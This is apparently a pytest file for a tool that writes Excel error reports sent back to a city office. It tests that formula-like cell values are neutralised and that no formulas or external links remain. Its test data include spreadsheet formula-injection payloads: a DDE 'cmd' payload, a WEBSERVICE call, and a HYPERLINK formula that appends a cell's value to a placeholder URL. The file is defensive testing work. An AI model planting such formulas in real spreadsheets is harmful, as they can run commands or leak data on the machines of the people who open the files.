"""The file that goes back to the city: it can be read, says what to do, and calculates nothing."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from delivery_desk import DeliveryDesk, with_value
from python_calamine import CalamineWorkbook

from canbao.batch.delivery import RowError, write_error_file
from canbao.batch.delivery.error_file import HEADERS, neutral
from canbao.batch.package.manifest import Manifest
from canbao.batch.trouble import OutOfRoom


@pytest.fixture
def manifest(desk: DeliveryDesk) -> Manifest:
    return desk.delivery().manifest


def sheets(path: Path) -> tuple[list[list[str]], list[list[str]]]:
    book = CalamineWorkbook.from_path(path)
    about, listed = (book.get_sheet_by_name(name).to_python() for name in book.sheet_names)
    return about, listed


def calculated(path: Path) -> bool:
    """Whether any sheet has a formula, or any part leads outside."""
    with zipfile.ZipFile(path) as parts:
        texts = [parts.read(name) for name in parts.namelist() if name.startswith("xl/")]
    return any(b"<f>" in text or b"<f " in text or b"TargetMode" in text for text in texts)


def error(value: str, rule: str = "code_unknown", ssn: str = "440604198001010035") -> RowError:
    return RowError("persons", 1, ssn, "name", value, rule, f"人员表第 1 行：姓名的值“{value}”；请改正")


def test_a_formula_in_a_name_comes_back_as_text(desk: DeliveryDesk, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid/"&A1,"点")'
    delivery = desk.delivery(persons=with_value("hukou_town_code", formula[:40]))
    path = tmp_path / "errors.xlsx"
    assert write_error_file(delivery.errors(), path, manifest=delivery.manifest) >= 1
    about, listed = sheets(path)
    assert tuple(listed[0]) == HEADERS
    values = [row[HEADERS.index("值")] for row in listed[1:]]
    assert "'" + formula[:40] in values
    assert about[0] == ["退回的数据包", delivery.manifest.file_name, ""]
    assert not calculated(path)


STARTS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    " =1",
    "　＝1",
]


@pytest.mark.parametrize("text", [*STARTS, "=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid")'])
def test_what_a_spreadsheet_might_calculate_is_neutralised(text: str, manifest: Manifest, tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"
    write_error_file([error(text, ssn=text)], path, manifest=manifest)
    row = sheets(path)[1][1]
    for cell in (row[HEADERS.index("值")], row[HEADERS.index("社会保障号码")]):
        assert cell == neutral(text) and cell.startswith("'") and cell.isprintable()
    assert not calculated(path)


def test_numbers_and_addresses_stay_text(manifest: Manifest, tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"
    write_error_file([error("http://example.invalid"), error("0123")], path, manifest=manifest)
    rows = sheets(path)[1][1:]
    assert [row[2] for row in rows] == ["440604198001010035"] * 2
    assert [row[4] for row in rows] == ["http://example.invalid", "0123"]
    assert not calculated(path)


def test_the_first_sheet_counts_every_error_although_the_list_ends(manifest: Manifest, tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"
    errors = (error("x", rule) for rule in ["code_unknown"] * 7 + ["length_wrong"] * 2)
    assert write_error_file(errors, path, manifest=manifest, limit=4) == 9
    about, listed = sheets(path)
    assert len(listed) == 1 + 4
    assert ["错误总数", "9；清单只列前 4 条", ""] in about
    assert ["人员", "代码不在代码表中", "7"] in about and ["人员", "长度不对", "2"] in about
    assert any("重新运行 canbao clean" in row[1] for row in about)


def test_nothing_is_left_when_writing_fails(manifest: Manifest, tmp_path: Path) -> None:
    def failing() -> Iterator[RowError]:
        yield error("x")
        raise OutOfRoom("满了")

    with pytest.raises(OutOfRoom):
        write_error_file(failing(), tmp_path / "none" / "errors.xlsx", manifest=manifest)
    folder = tmp_path / "empty"
    folder.mkdir()
    with pytest.raises(OutOfRoom, match="满了"):
        write_error_file(failing(), folder / "errors.xlsx", manifest=manifest)
    assert list(folder.iterdir()) == []
